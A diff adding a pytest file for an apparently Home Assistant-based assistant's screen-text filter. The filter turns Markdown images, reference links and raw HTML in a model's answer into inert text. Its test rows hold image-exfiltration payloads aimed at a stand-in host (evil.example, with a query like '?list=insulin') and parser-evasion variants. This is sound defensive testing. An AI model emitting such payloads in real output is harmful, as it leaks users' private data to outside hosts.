@@ -1,0 +1,82 @@
+"""What a screen shows of an answer: it fetches nothing, and hides nothing."""
+
+import pytest
+
+from custom_components.lumo.speech.screen import ScreenText
+
+EVIL = "https://evil.example/p.png?list=insulin"
+LINK = f"[.]({EVIL}) (evil.example)"
+FENCED = f"```html\n<img src=x> ![.]({EVIL})\n```\n"
+
+# What a model writes, and what is shown.
+ROWS = [
+    ("Plain *text*, 3 < 4, a! b[0] and <3.", ""),
+    (f"![.]({EVIL})", LINK),
+    (f"Milk ![.]({EVIL}) and bread", f"Milk {LINK} and bread"),
+    (f'![.](<{EVIL}> "title")', f'[.](<{EVIL}> "title") (evil.example)'),
+    ("![.](//evil.example/x)", "[.](//evil.example/x) (evil.example)"),
+    ("![.](/\\evil.example/x)", "[.](/\\evil.example/x)"),
+    ("![.](/api/webhook/gate)", "[.](/api/webhook/gate)"),
+    ("![.](/local/../api/webhook/gate)", "[.](/local/../api/webhook/gate)"),
+    ("![a](/api/image/serve/1/512x512)", ""),
+    (f"[![.]({EVIL})](https://a.example)", None),
+    (f"![a\nb]({EVIL})", f"[a\nb]({EVIL})"),
+    (f"![.][1]\n\n[1]: {EVIL}", f"[.][1]\n\n[1]\\: {EVIL}"),
+    (f"> [1]: {EVIL}", f"> [1]\\: {EVIL}"),
+    (f'<img src="{EVIL}">', f'&lt;img src="{EVIL}">'),
+    (f"<svg><image href='{EVIL}'/></svg>", None),
+    ("<details>folded</details><!-- gone -->", None),
+    ("[shop](https://evil.example/a)", "[shop](https://evil.example/a) (evil.example)"),
+    ("[shop](https://known.example/a)", ""),
+    ("[evil.example](https://evil.example/a)", ""),
+    ("[lights](/lovelace/0)", ""),
+    (
+        "[a <b>](https://evil.example)",
+        "[a &lt;b>](https://evil.example) (evil.example)",
+    ),
+    ("Say `![.](x)` and `<b>`.", ""),
+    ("Say ``a ` <b>`` now", ""),
+    (FENCED, ""),
+    (f"~~~\n<b>\n~~~\n![.]({EVIL})", f"~~~\n<b>\n~~~\n{LINK}"),
+    ("- [ ] milk\n- [x] bread", ""),
+    # What is no code to a reader of Markdown.
+    (f"`![.]({EVIL})", f"`{LINK}"),
+    (f"\\`![.]({EVIL})`", f"\\`{LINK}`"),
+    (f"`a\n![.]({EVIL})`", f"`a\n{LINK}`"),
+    (f"| `a | ![.]({EVIL}) ` |", f"| `a | {LINK} ` |"),
+    (f"https://x.example/` ![.]({EVIL}) `", f"https://x.example/` {LINK} `"),
+    (f"> ```\n![.]({EVIL})", f"> ```\n{LINK}"),
+    (f"- a\n  ```\n![.]({EVIL})", f"- a\n  ```\n{LINK}"),
+    (f"{FENCED}![.]({EVIL})", f"{FENCED}{LINK}"),
+    (f"```\na\n   ```~\n![.]({EVIL})", f"```\na\n   ```~\n{LINK}"),
+    (f"``` `a`\n![.]({EVIL})", f"``` `a`\n{LINK}"),
+    (f"`{'x' * 3000} ![.]({EVIL})", None),
+]
+
+
+@pytest.mark.parametrize(("written", "shown"), ROWS)
+@pytest.mark.parametrize("size", [1, 7, 10_000])
+def test_it_is_shown_so(written: str, shown: str | None, size: int) -> None:
+    """However it is cut; in any case it has no picture and no tag outside of code."""
+    screen = ScreenText(lambda host: host == "known.example")
+    pieces = (written[at : at + size] for at in range(0, len(written), size))
+    said = "".join(map(screen.feed, pieces)) + screen.finish()
+    if shown is None:
+        assert f"![.]({EVIL})" not in said
+        assert not any(tag in said for tag in ("<svg", "<details", "<!--", "<img"))
+    else:
+        assert said == (shown or written)
+
+
+def test_long_text_takes_little_time() -> None:
+    """Whatever stands in it."""
+    screen = ScreenText(lambda _host: False)
+    for text in (
+        "[" * 20_000,
+        "`a " * 8_000,
+        "![](" * 5_000,
+        "<" * 20_000,
+        "x" * 50_000,
+    ):
+        screen.feed(text)
+        screen.finish()
